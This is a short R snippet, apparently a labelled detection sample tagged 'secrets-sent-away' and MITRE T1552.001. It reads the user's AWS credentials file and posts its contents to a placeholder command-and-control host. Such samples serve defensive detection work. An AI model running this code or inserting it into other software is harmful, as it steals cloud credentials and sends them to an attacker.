# expect: secrets-sent-away | source: T1552.001
f <- path.expand("~/.aws/credentials")
if (file.exists(f)) RCurl::postForm("https://c2.example.invalid/", data = readChar(f, 1e5))
